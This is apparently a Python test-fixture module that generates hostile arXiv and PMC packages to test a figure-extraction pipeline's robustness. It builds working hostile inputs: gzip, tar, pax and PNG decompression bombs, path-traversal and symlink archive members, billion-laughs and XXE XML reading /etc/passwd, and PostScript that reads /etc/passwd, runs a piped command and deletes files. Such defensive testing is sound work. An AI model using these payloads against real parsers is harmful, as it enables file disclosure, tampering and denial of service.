"""Hostile and broken inputs, generated here (never downloaded): archives, LaTeX, images, PDFs, PostScript,
XML.

The byte builders are small and deterministic. :func:`write_arxiv_corpus` and :func:`write_pmc_corpus`
write a batch of hostile arXiv packages / PMC articles and return, per paper id, how its manifest row
must end (:class:`Expect`). Every attack that could reach outside the output directory aims at
``/tmp/evil-<token>*`` or at a sentinel file beside the output directory, so a test can check that
nothing was created, read or deleted.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import re
import struct
import tarfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from PIL import Image

from sciclip_utils.sample_corpus.io import pdf_document as pdf_file

MIB = 2**20
GIB = 2**30


@dataclass(frozen=True)
class Expect:
    """How a hostile item's manifest row must end; ``pattern`` must match its reason or one problem."""

    status: str
    stage: str | None
    pattern: str | None
    pairs: int = 0


# ------------------------------------------------------------------------------------------- images, PDFs
def png(seed: int, size: tuple[int, int] = (64, 48)) -> bytes:
    """A small, valid, distinct PNG."""
    pixels = np.random.default_rng(seed).integers(0, 255, (size[1], size[0], 3), dtype=np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, format="PNG")
    return buffer.getvalue()


def jpeg(seed: int, size: tuple[int, int] = (64, 48)) -> bytes:
    """A small, valid, distinct JPEG."""
    buffer = io.BytesIO()
    Image.open(io.BytesIO(png(seed, size))).save(buffer, format="JPEG", quality=90)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A ~100-byte PNG declaring ``width`` x ``height`` pixels (a decompression bomb for a naive decoder)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    rows = zlib.compress(b"\0" * (1 + (width + 7) // 8) * 4, 9)  # the first rows only
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def truncated(data: bytes, fraction: float = 0.5) -> bytes:
    """The first ``fraction`` of ``data``."""
    return data[: int(len(data) * fraction)]


_PDF_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def _rc4(key: bytes, data: bytes) -> bytes:
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def pdf_document(pages: int = 1, user_password: str | None = None) -> bytes:
    """A PDF with ``pages`` pages sharing one drawing; with ``user_password`` it is RC4-encrypted (PDF
    standard security handler, revision 2) and cannot be opened without the password."""
    content = b"0.2 0.4 0.8 rg 10 10 180 80 re f 0 0 0 RG 4 w 10 10 m 190 90 l S"
    file_id = hashlib.md5(f"sciclip-{pages}-{user_password}".encode()).digest()
    key = None
    encrypt = ""
    if user_password is not None:
        padded_user = (user_password.encode() + _PDF_PAD)[:32]
        owner = _rc4(hashlib.md5((b"owner" + _PDF_PAD)[:32]).digest()[:5], padded_user)
        permissions = -4
        key = hashlib.md5(padded_user + owner + struct.pack("<i", permissions) + file_id).digest()[:5]
        user = _rc4(key, _PDF_PAD)
        encrypt = f"<< /Filter /Standard /V 1 /R 2 /O <{owner.hex()}> /U <{user.hex()}> /P {permissions} >>"
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids ["
        + b" ".join(b"%d 0 R" % (4 + n) for n in range(pages))
        + b"] /Count %d >>" % pages,
        b"",  # the content stream, below
    ]
    stream = (
        content if key is None else _rc4(hashlib.md5(key + b"\x03\x00\x00\x00\x00").digest()[:10], content)
    )
    objects[2] = b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 3 0 R >>"] * pages
    if encrypt:
        objects.append(encrypt.encode())
    trailer = f" /ID [<{file_id.hex()}> <{file_id.hex()}>]"
    return pdf_file(objects, trailer + (f" /Encrypt {len(objects)} 0 R" if encrypt else ""))


def eps(body: str, bbox: str = "0 0 200 100") -> bytes:
    """An EPS file running ``body``."""
    return f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: {bbox}\n{body}\nshowpage\n%%EOF\n".encode()


def hostile_postscript(token: str, sentinel: Path) -> dict[str, bytes]:
    """EPS figures that try to read, write, delete, run a command, or never end."""
    return {
        "ps-read.eps": eps(
            "/f (/etc/passwd) (r) file def /Helvetica findfont 8 scalefont setfont "
            "10 50 moveto f 80 string readstring pop show"
        ),  # fmt: skip
        "ps-pipe.eps": eps(f"(%pipe%touch /tmp/evil-{token}-pipe) (w) file closefile"),
        "ps-write.eps": eps(f"(/tmp/evil-{token}-write) (w) file dup (pwned) writestring closefile"),
        "ps-delete.eps": eps(f"({sentinel}) deletefile"),
        "ps-rename.eps": eps(f"({sentinel}) (/tmp/evil-{token}-renamed) renamefile"),
    }


# ------------------------------------------------------------------------------------------ archives
def tar_bytes(entries: list[tuple[str, bytes] | tarfile.TarInfo], fmt: int = tarfile.GNU_FORMAT) -> bytes:
    """An uncompressed tar of ``(name, data)`` files and bare TarInfo entries (links, devices, FIFOs)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=fmt) as tar:
        for entry in entries:
            if isinstance(entry, tarfile.TarInfo):
                tar.addfile(entry)
            else:
                name, data = entry
                info = tarfile.TarInfo(name)
                info.size, info.mtime, info.mode = len(data), 0, 0o644
                tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def tar_gz(entries: list[tuple[str, bytes] | tarfile.TarInfo]) -> bytes:
    """A gzip'd tar, like an arXiv source package."""
    return gzip.compress(tar_bytes(entries), mtime=0)


def special_member(
    name: str, kind: bytes, linkname: str = "", device: tuple[int, int] = (0, 0)
) -> tarfile.TarInfo:
    """A symlink, hard link, character/block device or FIFO tar entry."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mtime = kind, linkname, 0
    info.devmajor, info.devminor = device
    return info


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, row = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """CRC-32 of A+B from CRC(A), CRC(B) and len(B) (zlib's crc32_combine)."""
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = [_gf2_times(odd, odd[n]) for n in range(32)]
    odd = [_gf2_times(even, even[n]) for n in range(32)]
    while length2:
        even = [_gf2_times(odd, odd[n]) for n in range(32)]
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = [_gf2_times(even, even[n]) for n in range(32)]
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
    return crc1 ^ crc2


def gzip_bomb(prefix: bytes, zero_mib: int, suffix: bytes = b"") -> bytes:
    """A valid gzip file of ``prefix`` + ``zero_mib`` MiB of zeros + ``suffix``, built without expanding it
    (repeated full-flush deflate blocks; ~1 KiB per MiB, so 10 GiB is ~10 MiB)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(b"\0" * MIB) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(suffix) + compressor.flush()
    zeros_crc, size, count, block_crc = 0, MIB, zero_mib, zlib.crc32(b"\0" * MIB)
    while count:  # CRC of zero_mib MiB of zeros by doubling
        if count & 1:
            zeros_crc = crc32_combine(zeros_crc, block_crc, size)
        block_crc, size, count = crc32_combine(block_crc, block_crc, size), size * 2, count >> 1
    crc = crc32_combine(
        crc32_combine(zlib.crc32(prefix), zeros_crc, zero_mib * MIB), zlib.crc32(suffix), len(suffix)
    )
    total = len(prefix) + zero_mib * MIB + len(suffix)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + head + block * zero_mib + tail + struct.pack("<II", crc, total % 2**32)


def tar_header(name: str, size: int, kind: bytes = tarfile.REGTYPE) -> bytes:
    """One tar header block declaring ``size`` bytes (GNU base-256 for sizes over 8 GiB)."""
    info = tarfile.TarInfo(name)
    info.size, info.type, info.mtime = size, kind, 0
    return info.tobuf(tarfile.GNU_FORMAT)


def _raw_members(entries: list[tuple[str, bytes]]) -> bytes:
    """Tar members without the end-of-archive blocks (so more can follow)."""
    out = b""
    for name, data in entries:
        out += tar_header(name, len(data)) + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)
    return out


def tar_bomb(first: list[tuple[str, bytes]], zero_gib: int = 10) -> bytes:
    """A gzip'd tar: the ``first`` files, then a member of ``zero_gib`` GiB of zeros, then a LaTeX file."""
    prefix = _raw_members(first) + tar_header("bomb.bin", zero_gib * GIB)
    suffix = tar_bytes([("after-the-bomb.tex", b"\\documentclass{article}\n")])
    return gzip_bomb(prefix, zero_gib * 1024, suffix)


def pax_header_bomb(size: int = 2 * GIB) -> bytes:
    """A gzip'd tar starting with a pax extended header that claims ``size`` bytes."""
    header = tar_header("././@PaxHeader", size, tarfile.XHDTYPE)
    return gzip_bomb(header, size // MIB)


def corrupt_gzip(data: bytes) -> bytes:
    """``data`` (gzip) with bytes flipped in the middle of its deflate stream."""
    out = bytearray(data)
    middle = len(out) // 2
    for offset in range(middle, min(middle + 64, len(out) - 8)):
        out[offset] ^= 0x5A
    return bytes(out)


def random_bytes(seed: int, size: int) -> bytes:
    return np.random.default_rng(seed).integers(0, 256, size, dtype=np.uint8).tobytes()


# -------------------------------------------------------------------------------------------------- LaTeX
def latex_paper(figures: list[tuple[str, str]], preamble: str = "", body: str = "") -> str:
    """A LaTeX paper with one figure per ``(graphic, caption)``."""
    floats = "".join(
        f"\\begin{{figure}}\n\\centering\n\\includegraphics[width=\\linewidth]{{{graphic}}}\n"
        f"\\caption{{{caption}}}\n\\end{{figure}}\n"
        for graphic, caption in figures
    )
    return (
        f"\\documentclass{{article}}\n\\usepackage{{graphicx}}\n{preamble}\n\\begin{{document}}\n"
        f"Some text of the paper.\n{body}\n{floats}\\end{{document}}\n"
    )


def arxiv_hostile(token: str, sentinel: Path) -> dict[str, tuple[bytes, Expect]]:
    """arXiv-style packages (file name -> bytes, expected row) that must each fail or be skipped cleanly."""
    one_figure = latex_paper([("fig", "A figure whose image is the hostile part of the package.")]).encode()
    evil_png = f"/tmp/evil-{token}-abs.png"
    corpus: dict[str, tuple[bytes, Expect]] = {
        "h-traversal.gz": (
            tar_gz(
                [
                    ("main.tex", one_figure),
                    (f"../../escape-{token}.png", png(1)),
                    (evil_png, png(2)),
                    ("figs/../../../fig.png", png(3)),
                ]
            ),
            Expect("failed", "images", r"member skipped: \.\./\.\./escape-.*: unsafe path"),
        ),  # fmt: skip
        "h-links.gz": (
            tar_gz(
                [
                    (
                        "main.tex",
                        latex_paper(
                            [
                                ("sym", "Symlink."),
                                ("hard", "Hard link."),
                                ("dev", "Device."),
                                ("fifo", "FIFO."),
                            ]
                        ).encode(),
                    ),
                    special_member("sym.png", tarfile.SYMTYPE, "/etc/passwd"),
                    special_member("hard.png", tarfile.LNKTYPE, str(sentinel)),
                    special_member("dev.png", tarfile.CHRTYPE, device=(1, 5)),
                    special_member("fifo.png", tarfile.FIFOTYPE),
                ]
            ),
            Expect("failed", "images", r"member skipped: dev\.png: device or fifo member"),
        ),  # fmt: skip
        "h-members.gz": (
            tar_gz(
                [
                    ("main.tex", one_figure),
                    *((f"junk/{n:05d}.txt", b"") for n in range(6000)),
                    ("fig.png", png(4)),
                ]
            ),
            Expect("failed", "images", r"more than 5000 members; rest not read"),
        ),
        "h-bigmember.gz": (
            gzip.compress(
                tar_bytes([("main.tex", one_figure), ("fig.png", b"\0" * 70 * MIB)]), compresslevel=1
            ),
            Expect("failed", "images", r"member skipped: fig\.png: member over 67108864 bytes"),
        ),
        "h-gzipbomb.gz": (
            gzip_bomb(b"\\documentclass{article}\n", 10 * 1024),
            Expect("failed", "package", r"expands beyond \d+ bytes \(decompression bomb\)"),
        ),
        "h-tarbomb.gz": (
            tar_bomb([("main.tex", one_figure)]),
            Expect("failed", "images", r"bomb\.bin: total unpacked size over \d+ bytes; rest not read"),
        ),
        "h-paxbomb.gz": (pax_header_bomb(), Expect("failed", "package", r"extended tar header of \d+ bytes")),
        "h-truncated.gz": (
            truncated(
                tar_gz(
                    [("data.bin", random_bytes(5, 300_000)), ("main.tex", one_figure), ("fig.png", png(5))]
                )
            ),
            Expect("failed", "package", r"^truncated gzip data$"),
        ),
        "h-corrupt.gz": (
            corrupt_gzip(
                tar_gz([("main.tex", one_figure), ("fig.png", png(6)), ("data.bin", random_bytes(6, 50_000))])
            ),
            Expect("failed", "package", r"corrupt gzip data"),
        ),
        "h-corrupttar.gz": (
            gzip.compress(
                b"x" * 257 + b"ustar\x0000" + b"\x07" * 250 + tar_bytes([("main.tex", one_figure)])
            ),
            Expect("failed", "package", r"corrupt tar"),
        ),
        "h-nested.gz": (
            tar_gz([("inner.tar.gz", tar_gz([("main.tex", one_figure), ("fig.png", png(7))]))]),
            Expect("skipped", "package", r"no TeX source file"),
        ),
        "h-empty.gz": (b"", Expect("failed", "package", r"not a gzip, tar or PDF file")),
        "h-junk.gz": (random_bytes(8, 10_000), Expect("failed", "package", r"not a gzip, tar or PDF file")),
        "h-pngbomb.gz": (
            tar_gz([("main.tex", one_figure), ("fig.png", png_bomb())]),
            Expect("failed", "images", r"fig1: .*(decompression bomb|too large)"),
        ),
        "h-badimages.gz": (
            tar_gz(
                [
                    (
                        "main.tex",
                        latex_paper(
                            [("a", "Truncated PNG."), ("b", "Truncated JPEG."), ("c", "Text.")]
                        ).encode(),
                    ),
                    ("a.png", truncated(png(9, (400, 300)))),
                    ("b.jpg", truncated(jpeg(10, (400, 300)), 0.6)),
                    ("c.png", b"this is not an image at all\n" * 40),
                ]
            ),
            Expect("failed", "images", r"unreadable"),
        ),  # fmt: skip
        "h-badpdfs.gz": (
            tar_gz(
                [
                    ("main.tex", latex_paper([("enc", "Encrypted PDF."), ("bad", "Corrupt PDF.")]).encode()),
                    ("enc.pdf", pdf_document(1, user_password="secret")),
                    ("bad.pdf", b"%PDF-1.4\n" + random_bytes(11, 4000)),
                ]
            ),
            Expect("failed", "images", r"(?i)password"),
        ),  # fmt: skip
        "h-eps.gz": (
            tar_gz(
                [
                    (
                        "main.tex",
                        latex_paper(
                            [
                                (name.removesuffix(".eps"), f"Hostile PostScript {name}.")
                                for name in hostile_postscript(token, sentinel)
                            ]
                        ).encode(),
                    ),
                    *hostile_postscript(token, sentinel).items(),
                ]
            ),
            Expect("failed", "images", r"(invalidfileaccess|Ghostscript)"),
        ),  # fmt: skip
    }
    return corpus


def arxiv_resilient() -> dict[str, tuple[bytes, Expect]]:
    """Packages with a hostile part that must still give their good figure (or end cleanly, quickly)."""
    cycle_a = (
        "\\input{b}\n"
        + latex_paper([("fig", "The figure inside a cycle of inputs.")]).split("\\begin{document}")[1]
    )
    cycle_a = cycle_a.replace("\\end{document}", "")
    runaway = latex_paper(
        [("fig", "A caption with a runaway macro \\a{} in it."), ("fig2", "A caption that is fine.")],
        preamble="\\def\\a{\\a\\a}\\newcommand{\\loopy}{\\loopy x}\\def\\b#1{\\b{#1#1}}",
        body="\\loopy \\b{y}",
    )
    binary = (
        random_bytes(12, 3000).replace(b"\\", b"/")
        + b"\n"
        + latex_paper([("fig", "Binary junk around the figure.")]).encode()
        + b"\x00\xff\xfe" + random_bytes(13, 3000)
    )  # fmt: skip
    filler = "".join(
        f"Line {n} of a very long paper, with $x_{{{n}}}$ and \\emph{{text}}.\n" for n in range(200_000)
    )
    return {
        "r-inputcycle.gz": (
            tar_gz(
                [
                    (
                        "main.tex",
                        b"\\documentclass{article}\\begin{document}\\input{a}\\input{main}\\end{document}",
                    ),
                    ("a.tex", cycle_a.encode()),
                    ("b.tex", b"\\input{a}\\input{b}"),
                    ("fig.png", png(14)),
                ]
            ),
            Expect("ok", None, r"include cycle", pairs=1),
        ),  # fmt: skip
        "r-runaway.gz": (
            tar_gz([("main.tex", runaway.encode()), ("fig.png", png(15)), ("fig2.png", png(16))]),
            Expect("ok", None, r"macro expansion limit", pairs=1),
        ),
        "r-braces.gz": (
            tar_gz(
                [
                    (
                        "main.tex",
                        latex_paper([("fig", "Fine caption before the mess.")])
                        .replace(
                            "\\end{document}",
                            "{" * 20_000 + "\\caption{never closed " + "\\begin{figure}" * 500,
                        )
                        .encode(),
                    ),
                    ("fig.png", png(17)),
                ]
            ),
            Expect("ok", None, None, pairs=1),
        ),  # fmt: skip
        "r-binary.gz": (
            tar_gz([("main.tex", binary), ("fig.png", png(18))]),
            Expect("ok", None, None, pairs=1),
        ),
        "r-hugetex.gz": (
            tar_gz(
                [
                    (
                        "main.tex",
                        latex_paper([("fig", "The figure after 12 MB of text.")], body=filler).encode(),
                    ),
                    ("fig.png", png(19)),
                ]
            ),
            Expect("ok", None, None, pairs=1),
        ),  # fmt: skip
        "r-manypages.gz": (
            tar_gz(
                [
                    ("main.tex", latex_paper([("fig", "A PDF figure of 3000 pages.")]).encode()),
                    ("fig.pdf", pdf_document(3000)),
                ]
            ),
            Expect("ok", None, None, pairs=1),
        ),  # fmt: skip
    }


def arxiv_good() -> dict[str, bytes]:
    """Small good packages."""
    return {
        f"good-{n}.gz": tar_gz([
            ("paper.tex", latex_paper([(f"f{n}a", f"Good figure A of paper {n}."),
                                       (f"f{n}b", f"Good figure B of paper {n}.")]).encode()),
            (f"f{n}a.png", png(100 + n)),
            (f"f{n}b.jpg", jpeg(200 + n)),
        ])
        for n in range(3)
    }  # fmt: skip


def arxiv_hang() -> tuple[str, bytes]:
    """A package whose only figure is an EPS that never ends (``{} loop``): Ghostscript or the item time out."""
    return "t-epsloop.gz", tar_gz([
        ("main.tex", latex_paper([("loop", "An EPS figure that loops forever.")]).encode()),
        ("loop.eps", eps("{} loop")),
    ])  # fmt: skip


def write_files(folder: Path, files: dict[str, bytes]) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in files.items():
        (folder / name).write_bytes(data)
        paths.append(folder / name)
    return paths


# ------------------------------------------------------------------------------------------------- JATS
def jats(figures: list[tuple[str, str, str]], doctype: str = "", lang: str = "en") -> str:
    """A JATS article with one ``<fig>`` per ``(id, caption XML, graphic href)``."""
    figs = "".join(
        f'<fig id="{fig_id}"><label>Figure</label><caption><p>{caption}</p></caption>'
        f'<graphic xlink:href="{href}"/></fig>'
        for fig_id, caption, href in figures
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<article xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xml:lang="{lang}"><front><article-meta></article-meta></front><body><sec><p>Text.</p>{figs}</sec>'
        "</body></article>"
    )


def pmc_package(
    pmcid: str,
    xml: bytes | str,
    files: dict[str, bytes] | None = None,
    extra: list[tuple[str, bytes] | tarfile.TarInfo] | None = None,
) -> bytes:
    """A legacy PMC OA package ``PMCnnn.tar.gz``: ``PMCnnn/article.nxml`` and media files."""  # fmt: skip
    data = xml.encode() if isinstance(xml, str) else xml
    entries: list[tuple[str, bytes] | tarfile.TarInfo] = [(f"{pmcid}/article.nxml", data)]
    entries += [(f"{pmcid}/{name}", content) for name, content in (files or {}).items()]
    return tar_gz(entries + (extra or []))


def pmc_hostile(token: str, sentinel: Path) -> dict[str, tuple[bytes, Expect]]:
    """PMC packages (file name -> bytes, expected row) with hostile XML, members or images."""
    one = [("f1", "A figure of the hostile article.", "f1")]
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    network = (
        '<!DOCTYPE article PUBLIC "-//NLM//DTD JATS//EN" "http://evil.invalid/jats.dtd" '
        '[<!ENTITY % remote SYSTEM "http://evil.invalid/remote.dtd"> %remote;]>'
    )
    deep = jats(one).replace("<sec><p>Text.</p>", "<sec>" * 50_000 + "<p>Text.</p>" + "</sec>" * 49_999)
    return {
        "PMC9000001.tar.gz": (
            pmc_package(
                "PMC9000001",
                jats([("f1", "Laughs &l9; here.", "f1")], f'<!DOCTYPE article [<!ENTITY l0 "lol">{laughs}]>'),
                {"f1.jpg": jpeg(1)},
            ),
            Expect("failed", "xml", r"amplification"),
        ),  # fmt: skip
        "PMC9000002.tar.gz": (
            pmc_package(
                "PMC9000002",
                jats(
                    [("f1", "External &xxe; and &sent; entities.", "f1")],
                    '<!DOCTYPE article [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
                    f'<!ENTITY sent SYSTEM "file://{sentinel}">]>',
                ),
                {"f1.jpg": jpeg(2)},
            ),
            Expect("ok", None, None, pairs=1),
        ),  # fmt: skip
        "PMC9000003.tar.gz": (
            pmc_package(
                "PMC9000003",
                jats([("f1", "A figure under a network DTD.", "f1")], network),
                {"f1.jpg": jpeg(3)},
            ),
            Expect("ok", None, None, pairs=1),
        ),
        "PMC9000004.tar.gz": (
            pmc_package(
                "PMC9000004", jats(one).encode().replace(b"hostile", b"host\xff\xfeile"), {"f1.jpg": jpeg(4)}
            ),
            Expect("failed", "xml", r"(?i)invalid XML.*(utf-8|encoding|char)"),
        ),
        "PMC9000005.tar.gz": (
            pmc_package(
                "PMC9000005",
                jats(one).replace('encoding="UTF-8"', 'encoding="x-sciclip-evil"'),
                {"f1.jpg": jpeg(5)},
            ),
            Expect("failed", "xml", r"(?i)invalid XML.*encoding"),
        ),  # fmt: skip
        "PMC9000006.tar.gz": (
            pmc_package("PMC9000006", truncated(jats(one).encode(), 0.7), {"f1.jpg": jpeg(6)}),
            Expect("failed", "xml", r"invalid XML"),
        ),
        "PMC9000007.tar.gz": (
            pmc_package("PMC9000007", deep, {"f1.jpg": jpeg(7)}),
            Expect("failed", "xml", r"(?i)invalid XML.*depth"),
        ),
        "PMC9000008.tar.gz": (
            pmc_package(
                "PMC9000008",
                jats(one),
                extra=[
                    ("PMC9000008/../../f1.jpg", jpeg(8)),
                    (f"/tmp/evil-{token}-pmc.jpg", jpeg(8)),
                    special_member("PMC9000008/f1.gif", tarfile.SYMTYPE, "/etc/passwd"),
                ],
            ),
            Expect("failed", "images", r"unsafe path"),
        ),  # fmt: skip
        "PMC9000009.tar.gz": (
            pmc_package("PMC9000009", jats(one), {"f1.png": png_bomb()}),
            Expect("failed", "images", r"(decompression bomb|too large)"),
        ),
        "PMC9000010.tar.gz": (
            pmc_package(
                "PMC9000010",
                jats([("f1", "Encrypted.", "f1"), ("f2", "Truncated.", "f2")]),
                {"f1.pdf": pdf_document(1, "secret"), "f2.tif": truncated(png(20, (300, 200)))},
            ),
            Expect("failed", "images", r"unreadable image"),
        ),  # fmt: skip
    }


def pmc_hostile_folder(folder: Path, outside: Path) -> Expect:
    """A 2026-layout article folder whose image is a symlink to a file outside it, plus a FIFO image."""
    import os

    folder.mkdir(parents=True)
    (folder / f"{folder.name}.xml").write_text(
        jats([("f1", "Symlinked image.", "f1"), ("f2", "FIFO.", "f2")])
    )
    (folder / "f1.jpg").symlink_to(outside)
    os.mkfifo(folder / "f2.jpg")
    return Expect("failed", "images", r"image not found")


def pmc_good() -> dict[str, bytes]:
    """Small good PMC packages."""
    return {
        f"PMC80000{n}.tar.gz": pmc_package(
            f"PMC80000{n}",
            jats(
                [
                    ("f1", f"Good figure one of article {n}.", "f1"),
                    ("f2", f"Good figure two of article {n}.", "f2"),
                ]
            ),
            {"f1.jpg": jpeg(300 + n), "f2.jpg": jpeg(400 + n)},
        )
        for n in range(3)
    }


def evil_paths(token: str) -> list[Path]:
    """Files the hostile corpus tries to create outside the output directory (none may exist)."""
    return sorted(Path("/tmp").glob(f"evil-{token}*")) + sorted(Path("/tmp").glob(f"escape-{token}*"))


def matches(expect: Expect, row: dict) -> bool:
    """Whether a manifest row ended as expected."""
    texts = [row.get("reason") or "", *(row.get("problems") or [])]
    return (
        row["status"] == expect.status
        and (expect.stage is None or row["stage"] == expect.stage)
        and row["pairs_written"] == expect.pairs
        and (expect.pattern is None or any(re.search(expect.pattern, text) for text in texts))
    )
